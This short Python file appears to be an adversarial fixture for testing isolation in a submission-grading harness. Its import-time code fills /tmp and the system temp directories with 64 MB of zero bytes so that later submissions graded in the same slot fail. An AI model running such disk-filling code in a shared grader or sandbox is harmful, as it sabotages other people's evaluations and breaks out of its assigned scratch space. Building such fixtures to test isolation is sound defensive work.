"""Fills the slot's /tmp (outside its own scratch folder) so that the next submissions graded in the
same slot fail; its own honest items are graded as usual, and so is everyone after it."""
ATTACKS = ()
AT_IMPORT = r'''
import os, tempfile
for _d in ("/tmp", tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir())):
    try:
        with open(os.path.join(_d, "fill-%d" % os.getpid()), "wb") as _fh:
            for _ in range(64):
                _fh.write(b"\0" * (1 << 20))
    except OSError:
        pass
'''
